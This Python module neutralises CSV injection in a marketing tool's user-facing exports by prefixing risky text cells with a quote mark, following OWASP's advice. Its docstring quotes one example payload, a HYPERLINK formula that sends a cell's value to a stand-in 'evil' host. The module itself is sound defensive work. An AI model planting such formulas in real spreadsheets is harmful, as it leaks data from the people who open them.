"""CSV files meant for people: text cells that a spreadsheet would run as a formula are neutralised.

A cell such as ``=HYPERLINK("http://evil/?"&A1, "click")`` in an exported audience runs when a marketer opens the
file in Excel or WPS (CSV injection). Following OWASP's advice, every *text* cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return gets a leading ``'``, which spreadsheets show as text and do not
evaluate. Numeric columns are left alone (``-3.5`` stays a number), and so are text cells that are a plain number
(``"-0.5"``, ``"+86"``): a spreadsheet reads those as the number they are and runs nothing.

The project's CSV exports for users go through here: the campaign audience (``scrm``'s and the service's
``/target.csv``, :func:`training.decisions.targeting.to_csv`), ``scrm score --out *.csv``, ``scrm lookalike --out
*.csv`` and ``scrm runs compare --format csv``. Data files the pipeline reads back (``scrm data convert``) are not
touched: there a cell must keep its value.
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd

#: First characters that make a spreadsheet treat a cell as a formula (OWASP, "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?"


def _is_text(column: pd.Series) -> bool:
    return pd.api.types.is_object_dtype(column.dtype) or pd.api.types.is_string_dtype(column.dtype)


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells starting with a formula trigger are prefixed with ``'``.

    Only string values of text (object / string dtype) columns change; numbers, booleans, dates and missing
    values never do, and the column order and dtypes are kept.
    """
    out = frame.copy()
    for col in out.columns:
        values = out[col]
        if not _is_text(values):
            continue
        try:
            first = values.str[:1]  # NaN for non-string cells
        except AttributeError:  # no string in the column at all
            continue
        risky = first.isin(FORMULA_TRIGGERS).to_numpy(dtype=bool, copy=True)
        if not risky.any():
            continue
        risky_values = values[risky].astype(str)
        risky[risky] = ~risky_values.str.fullmatch(_PLAIN_NUMBER).to_numpy(dtype=bool)
        if risky.any():
            fixed = values.astype(object)
            fixed[risky] = "'" + fixed[risky].astype(str)
            out[col] = fixed.astype(values.dtype) if pd.api.types.is_string_dtype(values.dtype) else fixed
    return out


def write_csv(frame: pd.DataFrame, path: str | Path | None = None) -> str:
    """``frame`` as UTF-8 CSV text without the index, formula cells neutralised; also written to ``path``."""
    text = neutralise_formulas(frame).to_csv(index=False)
    if path is not None:
        Path(path).write_text(text, encoding="utf-8")
    return text
